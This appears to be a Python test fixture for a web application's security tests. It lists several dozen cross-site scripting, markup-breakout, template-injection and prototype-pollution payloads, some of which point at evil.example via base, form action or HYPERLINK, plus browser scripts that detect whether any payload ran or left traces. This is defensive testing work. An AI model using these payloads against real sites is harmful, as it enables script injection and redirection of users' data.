"""Texts that would run if a page inserted them as markup, a URL, a script or a style.

Each has the word PWN in a tag name, an attribute or a call of `hit`, so that a test can find out what happened to it.
"""

from __future__ import annotations

PWN = "pwn"

PAYLOADS = (
    # Elements that run as soon as they're inserted.
    "<script>hit('pwn')</script>",
    "<ScRiPt id=pwn>hit('pwn')</sCrIpT>",
    "<script src=data:text/javascript,hit('pwn') id=pwn></script>",
    "<script type=module id=pwn>hit('pwn')</script>",
    "<scr<script>ipt id=pwn>hit('pwn')</scr</script>ipt>",
    "<img src=x onerror=hit('pwn') id=pwn>",
    '<img src=x onerror="hit(\'pwn\')" id="pwn"',
    "<img/src=x/onerror=hit('pwn')/id=pwn>",
    "<IMG SRC=x OnErRoR=hit('pwn') ID=pwn>",
    "<image src=x onerror=hit('pwn') id=pwn>",
    "<svg onload=hit('pwn') id=pwn>",
    "<svg/onload=hit('pwn')//id=pwn>",
    "<svg id=pwn><script>hit('pwn')</script></svg>",
    "<svg id=pwn><animate onbegin=hit('pwn') attributeName=x dur=1s>",
    "<svg id=pwn><use href=\"data:image/svg+xml,<svg id=x onload=hit('pwn')>#x\"/></svg>",
    "<svg id=pwn><foreignObject><iframe onload=hit('pwn')></foreignObject></svg>",
    "<math id=pwn><maction actiontype=statusline#hit xlink:href=javascript:hit('pwn')>x",
    "<body id=pwn onload=hit('pwn')>",
    "<iframe id=pwn src=javascript:parent.hit('pwn')></iframe>",
    "<iframe id=pwn srcdoc=\"<script>parent.hit('pwn')</script>\"></iframe>",
    "<object id=pwn data=javascript:hit('pwn')></object>",
    "<embed id=pwn src=javascript:hit('pwn')>",
    "<video id=pwn><source onerror=hit('pwn')></video>",
    "<audio id=pwn src onerror=hit('pwn')>",
    "<details id=pwn open ontoggle=hit('pwn')>x</details>",
    "<input id=pwn autofocus onfocus=hit('pwn')>",
    "<select id=pwn autofocus onfocus=hit('pwn')>",
    "<textarea id=pwn autofocus onfocus=hit('pwn')>",
    "<marquee id=pwn onstart=hit('pwn')>x</marquee>",
    "<x id=pwn onclick=hit('pwn') tabindex=1 onfocus=hit('pwn') autofocus>x",
    "<p id=pwn style=\"animation:spin 1s\" onanimationstart=hit('pwn')>x",
    "<button id=pwn popovertarget=p onbeforetoggle=hit('pwn')>x</button>",
    "<link id=pwn rel=stylesheet href=data:text/css,*{display:none}>",
    "<style id=pwn>*{display:none}</style>",
    "<meta id=pwn http-equiv=refresh content=\"0;url=javascript:hit('pwn')\">",
    "<base id=pwn href=https://evil.example/>",
    "<form id=pwn action=https://evil.example/><button>x</button></form>",
    "<pwn-element onclick=hit('pwn')></pwn-element>",
    "<etiquette-checker id=pwn><script class=ec-data>{}</script></etiquette-checker>",
    "<template id=pwn><img src=x onerror=hit('pwn')></template>",
    "<noscript id=pwn><p title=\"</noscript><img src=x onerror=hit('pwn')>\">",
    # Close the element, attribute or script around the text.
    "\"><img src=x onerror=hit('pwn') id=pwn>",
    "'><img src=x onerror=hit('pwn') id=pwn>",
    "\" onmouseover=hit('pwn') id=pwn x=\"",
    "' autofocus onfocus=hit('pwn') id='pwn",
    "</textarea><img src=x onerror=hit('pwn') id=pwn>",
    "</title><img src=x onerror=hit('pwn') id=pwn>",
    "</style><img src=x onerror=hit('pwn') id=pwn>",
    "</script><script id=pwn>hit('pwn')</script>",
    "--><img src=x onerror=hit('pwn') id=pwn>",
    "]]><img src=x onerror=hit('pwn') id=pwn>",
    "<!--><img src=x onerror=hit('pwn') id=pwn>-->",
    "</mark></div><img src=x onerror=hit('pwn') id=pwn>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit('pwn') id=pwn&gt;\">",
    "<p title=\"</xmp><img src=x onerror=hit('pwn') id=pwn>\"><xmp>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=hit('pwn') id=pwn>\">",
    # Encoded or unusual markup, which must stay unchanged.
    "&lt;img src=x onerror=hit('pwn') id=pwn&gt;",
    "&#60;img src=x onerror=hit('pwn') id=pwn&#62;",
    "%3Cimg%20src%3Dx%20onerror%3Dhit('pwn')%20id%3Dpwn%3E",
    "\\u003cimg src=x onerror=hit('pwn') id=pwn\\u003e",
    "\uff1cimg src=x onerror=hit('pwn') id=pwn\uff1e",
    "+ADw-img src=x onerror=hit('pwn') id=pwn+AD4-",
    "<\u200bimg src=x onerror=hit('pwn') id=pwn>",
    # URLs.
    "javascript:hit('pwn')",
    "JaVaScRiPt\u2028:hit('pwn')",
    "data:text/html,<script>parent.hit('pwn')</script>",
    "[pwn](javascript:hit('pwn'))",
    "//evil.example/pwn",
    # Templates, scripts, formulas, objects.
    "{{constructor.constructor(\"hit('pwn')\")()}}",
    "${hit('pwn')}",
    "<%= hit('pwn') %>",
    "';hit('pwn');//",
    "\");hit('pwn');//",
    "`;hit('pwn');//",
    "__proto__ pwn",
    '{"__proto__": {"pwn": 1}}',
    "constructor.prototype.pwn",
    '=HYPERLINK("https://evil.example/pwn","x")',
    "*/hit('pwn')/*",
)

WATCH = """
  window.hits = [];
  window.hit = (what) => void hits.push(String(what));
  window.alert = window.prompt = window.confirm = window.hit;
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
"""For `add_init_script`: every payload calls `hit`, and `refused` lists what the policy blocked."""

TRACES = """
() => {
  // Text for screen readers can include what was typed. No other attribute can.
  const words = new Set(["aria-label", "title", "aria-valuetext"]);
  const found = [...hits.map((what) => `ran: ${what}`), ...refused.map((what) => `stopped by the policy: ${what}`)];
  if ({}.pwn !== undefined) found.push("a property on all objects");
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.localName.includes("pwn")) found.push(`element: ${element.outerHTML.slice(0, 120)}`);
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || name.includes("pwn")) found.push(`attribute: ${name} of ${element.localName}`);
        // Links to this page have its URL, which the browser has encoded.
        if (name === "href" && value.startsWith(location.href.split(/[?#]/)[0]) && !/[<>"'`]/.test(value.replaceAll("'", "")))
          continue;
        if (value.includes("pwn") && !words.has(name) && !name.startsWith("data-"))
          found.push(`attribute: ${element.localName} ${name}="${value.slice(0, 90)}"`);
        if (/^(href|src|action|formaction|data|srcdoc)$/.test(name) && /script:|^data:text|evil/i.test(value))
          found.push(`address: ${element.localName} ${name}="${value.slice(0, 90)}"`);
      }
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  return found;
}
"""
"""Lists the traces that payloads left in a page. Empty if they did nothing."""
